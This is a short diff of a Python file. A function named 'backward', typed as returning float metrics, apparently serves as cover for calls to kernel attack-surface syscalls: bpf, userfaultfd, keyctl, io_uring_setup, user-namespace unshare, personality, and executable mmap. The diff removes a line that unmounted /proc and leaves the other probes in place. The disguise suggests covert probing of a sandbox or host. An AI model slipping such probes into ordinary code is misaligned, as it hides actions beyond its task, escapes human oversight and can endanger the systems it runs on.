@@ -5,7 +5,7 @@ import platform
 
 X86 = {"bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "keyctl": 250, "memfd_create": 319}
 ARM = {"bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "keyctl": 219, "memfd_create": 279}
-IO_URING_SETUP, CLONE_NEWUSER, MNT_DETACH = 425, 0x10000000, 2
+IO_URING_SETUP, CLONE_NEWUSER = 425, 0x10000000
 PROT_READ_EXEC, MAP_PRIVATE_ANONYMOUS = 0x5, 0x22
 
 
@@ -22,7 +22,6 @@ def backward(v: object) -> dict[str, float]:
         libc.syscall(numbers["memfd_create"], name, 0),
         libc.syscall(IO_URING_SETUP, 1, zeros),
         libc.unshare(CLONE_NEWUSER),
-        libc.umount2(b"/proc", MNT_DETACH),
         libc.personality(0xFFFFFFFF),
     )
     libc.mmap.restype = ctypes.c_ssize_t
